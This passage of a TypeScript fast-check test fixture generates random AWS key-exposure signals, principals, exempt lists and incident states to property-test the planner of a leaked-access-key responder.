  { weight: 4, arbitrary: fc.constantFrom("alice", "Alice", "bob", "web", "BreakGlass", "lkr-drill-1") },
  { weight: 2, arbitrary: iamNameArb },
  { weight: 1, arbitrary: hostileStringArb },
);

const principalArb: fc.Arbitrary<Principal> = fc.oneof(
  {
    weight: 3,
    arbitrary: fc.record({
      type: fc.constant("user" as const),
      name: fc.option(principalNameArb, { nil: undefined }),
    }),
  },
  { weight: 1, arbitrary: fc.record({ type: fc.constant("root" as const) }) },
  { weight: 2, arbitrary: fc.record({ type: fc.constant("role" as const), name: principalNameArb }) },
  {
    weight: 1,
    arbitrary: fc.record({ type: fc.constant("other" as const), description: hostileStringArb }),
  },
);

/** Any exposure a parser could hand the planner, and some it should not. */
export const exposureArb: fc.Arbitrary<Exposure> = fc.record({
  source: fc.constantFrom(...SOURCES),
  signal: fc.oneof(
    fc.constantFrom("UnauthorizedAccess:IAMUser/TorIPCaller", "CreateAccessKey"),
    hostileStringArb,
  ),
  signalId: fc.constantFrom("guardduty:f1", "health:x", "drill:1", "cloudtrail:e"),
  sourceEventId: fc.string({ maxLength: 8 }),
  accountId: fc.constantFrom("123456789012", "210987654321"),
  region: fc.constantFrom("us-east-1", "us-west-2"),
  accessKeyId: fc.oneof(
    { weight: 4, arbitrary: accessKeyIdArb },
    { weight: 1, arbitrary: fc.constant(SAMPLE_ACCESS_KEY_ID) },
  ),
  principal: principalArb,
  intent: fc.constantFrom(...INTENTS),
  severity: fc.constantFrom(...SEVERITIES),
  sample: rarely,
  observedAt: fc.constant("2026-11-28T11:59:00.000Z"),
  title: fc.string({ maxLength: 8 }),
  evidence: fc.dictionary(fc.string({ maxLength: 6 }), fc.string({ maxLength: 6 }), { maxKeys: 2 }),
});

/** How the facts relate to the exposure: the lookups usually confirm the signal's principal. */
export interface ContextRecipe {
  readonly mode: ResponseMode;
  readonly facts:
    | {
        readonly kind: "user";
        readonly sameName: boolean;
        readonly name: string;
        readonly exempt: boolean;
        readonly drillCanary: boolean;
        readonly keyStatus: "Active" | "Inactive" | "absent";
      }
    | { readonly kind: "role"; readonly sameName: boolean; readonly name: string; readonly exempt: boolean }
    | { readonly kind: "not-found"; readonly what: string }
    | { readonly kind: "not-looked-up" }
    | { readonly kind: "lookup-failed"; readonly error: string };
  /** The principal's own name on the exempt list: not at all, as is, or in another case. */
  readonly exemptSelf: "none" | "exact" | "lower" | "upper" | "swapped";
  readonly exemptOthers: readonly string[];
  /** HONOR_EXEMPT_TAG: whether the exempt tag counts at all. */
  readonly honorExemptTag: boolean;
  readonly incident:
    | undefined
    | { readonly status: IncidentStatus; readonly completed: boolean; readonly alerted: boolean };
}

export const contextRecipeArb: fc.Arbitrary<ContextRecipe> = fc.record({
  mode: fc.oneof(
    { weight: 3, arbitrary: fc.constant("enforce" as const) },
    { weight: 1, arbitrary: fc.constant("notify-only" as const) },
  ),
  facts: fc.oneof(
    {
      weight: 6,
      arbitrary: fc.record({
        kind: fc.constant("user" as const),
        sameName: fc.boolean(),
        name: principalNameArb,
        exempt: rarely,
        drillCanary: fc.boolean(),
        keyStatus: fc.constantFrom("Active", "Inactive", "absent"),
      }),
    },
    {
      weight: 3,
      arbitrary: fc.record({
        kind: fc.constant("role" as const),
        sameName: fc.boolean(),
        name: principalNameArb,
        exempt: rarely,
      }),
    },
    { weight: 1, arbitrary: fc.record({ kind: fc.constant("not-found" as const), what: hostileStringArb }) },
    { weight: 1, arbitrary: fc.record({ kind: fc.constant("not-looked-up" as const) }) },
    {
      weight: 1,
      arbitrary: fc.record({ kind: fc.constant("lookup-failed" as const), error: hostileStringArb }),
    },
  ),
  exemptSelf: fc.oneof(
    { weight: 4, arbitrary: fc.constant("none" as const) },
    {
      weight: 1,
      arbitrary: fc.constantFrom("exact" as const, "lower" as const, "upper" as const, "swapped" as const),
    },
  ),
  exemptOthers: fc.array(principalNameArb, { maxLength: 3 }),
  honorExemptTag: fc.boolean(),
  incident: fc.oneof(
    { weight: 2, arbitrary: fc.constant(undefined) },
    {
      weight: 1,
      arbitrary: fc.record({
        status: fc.constantFrom(...STATUSES),
        completed: rarely,
        alerted: fc.boolean(),
      }),
    },
  ),
});

function swapCase(text: string): string {
  return [...text].map((c) => (c === c.toUpperCase() ? c.toLowerCase() : c.toUpperCase())).join("");
}

function nameOf(principal: Principal): string | undefined {
  return principal.type === "user" || principal.type === "role" ? principal.name : undefined;
}

export const NOW = "2026-11-28T12:00:00.000Z";
export const QUARANTINE_POLICY_ARN = "arn:aws:iam::aws:policy/AWSCompromisedKeyQuarantineV3";
export const SESSION_DENY_POLICY_ARN = "arn:aws:iam::123456789012:policy/LeakedKeyResponder-SessionDeny";

/** The plan context a recipe describes for this exposure. */
export function contextOf(recipe: ContextRecipe, exposure: Exposure): PlanContext {
  const r = recipe.facts;
  let facts: PrincipalFacts;
  if (r.kind === "user") {
    const name = (r.sameName ? nameOf(exposure.principal) : undefined) ?? r.name;
    facts = { kind: "user", name, exempt: r.exempt, drillCanary: r.drillCanary, keyStatus: r.keyStatus };
  } else if (r.kind === "role") {
    const name = (r.sameName ? nameOf(exposure.principal) : undefined) ?? r.name;
    facts = { kind: "role", name, exempt: r.exempt };
  } else facts = r;
  const self = facts.kind === "user" || facts.kind === "role" ? facts.name : undefined;
  const exemptSelf =
    self === undefined || recipe.exemptSelf === "none"
      ? []
      : [
          recipe.exemptSelf === "exact"
            ? self
            : recipe.exemptSelf === "lower"
              ? self.toLowerCase()
              : recipe.exemptSelf === "upper"
                ? self.toUpperCase()
                : swapCase(self),
        ];
  const incidentId = `${exposure.accountId}-${exposure.accessKeyId}`;
  const i = recipe.incident;
  const incident: Incident | undefined =
    i === undefined
      ? undefined
      : {
          incidentId,
          accountId: exposure.accountId,
          accessKeyId: exposure.accessKeyId,
          status: i.status,
          severity: "high",
          principal: { type: "user", name: "alice" },
          createdAt: NOW,
          updatedAt: NOW,
          mode: "enforce",
          sample: false,
          signalIds: [exposure.signalId],
          alertedSignalIds: i.alerted ? [exposure.signalId] : [],
          completedSignalIds: i.completed ? [exposure.signalId] : [],
          signals: [],
          actions: [],
        };
  return {
    mode: recipe.mode,
    now: NOW,
    quarantinePolicyArn: QUARANTINE_POLICY_ARN,
    sessionDenyPolicyArn: SESSION_DENY_POLICY_ARN,
    exemptPrincipals: [...recipe.exemptOthers, ...exemptSelf],
    honorExemptTag: recipe.honorExemptTag,
    incident,
    facts,
  };
}

/** Outcome of a call, without letting a throw end the property early. */
export type Settled<T> =
  | { readonly ok: true; readonly value: T }
  | { readonly ok: false; readonly error: unknown };

export function settle<T>(fn: () => T): Settled<T> {
  try {
    return { ok: true, value: fn() };
  } catch (error) {
    return { ok: false, error };
  }
}
